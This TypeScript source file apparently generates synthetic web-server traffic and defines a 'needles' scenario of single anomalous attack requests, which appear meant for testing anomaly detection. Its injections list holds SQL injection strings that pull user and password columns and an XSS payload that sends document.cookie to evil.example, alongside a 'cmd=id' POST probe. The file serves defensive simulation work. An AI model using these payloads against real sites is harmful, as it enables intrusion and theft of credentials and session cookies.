import { pick } from "../../chance/draw.ts";
import type { Random } from "../../chance/random.ts";
import { choice } from "../../fields.ts";
import type { TrafficEntry } from "../../traffic/scenario.ts";
import type { AccessAttack, Sender, WebAct } from "../request.ts";
import { ask } from "../request.ts";
import { searchPath } from "../site.ts";
import type { Visitors } from "../visitors.ts";
import { folderProbes, phpProbes, scannerAgents } from "./probes.ts";

/** One request that gets an answer which should be impossible. */
export interface Needles extends TrafficEntry {
  readonly kind: "needles";
  readonly needle: "found" | "post" | "connect" | "status" | "size" | "time" | "injection";
}

export const needles: AccessAttack<Needles> = {
  role: "attack",
  fields: {
    needle: choice({
      found: "a large page where there was always a 404",
      post: "a POST that is answered where there was always a 404",
      connect: "a CONNECT that is answered",
      status: "a redirect with a status that the site never had",
      size: "a file with an impossible size",
      time: "a page that takes a hundred times as long",
      injection: "a query that gets more than it should",
    }),
  },
  *visits({ needle }, { actors, onsetMs, random, freshAddress }) {
    const sender = { ip: freshAddress(), userAgent: pick(random, scannerAgents) };
    yield { offsetMs: onsetMs, gapMs: 0, acts: [requestFor(needle, sender, actors, random)] };
  },
};

const injections = [
  "q=%27%20OR%20%271%27=%271%27%20--%20",
  "q=1%27)%20UNION%20SELECT%20user,password%20FROM%20accounts--",
  "q=<script>fetch('//evil.example/'+document.cookie)</script>",
] as const;

function requestFor(
  needle: Needles["needle"],
  sender: Sender,
  { articles, pictures }: Visitors,
  random: Random,
): WebAct {
  switch (needle) {
    case "found":
      return ask(sender, "GET", pick(random, phpProbes));
    case "post":
      return ask(sender, "POST", pick(random, phpProbes), { body: "cmd=id" });
    case "connect":
      return ask(sender, "CONNECT", "mail.example:25");
    case "status":
      return ask(sender, "GET", pick(random, folderProbes));
    case "size":
      return ask(sender, "GET", pick(random, pictures));
    case "time":
      return ask(sender, "GET", pick(random, articles));
    case "injection":
      return ask(sender, "GET", `${searchPath}?${pick(random, injections)}`);
  }
}
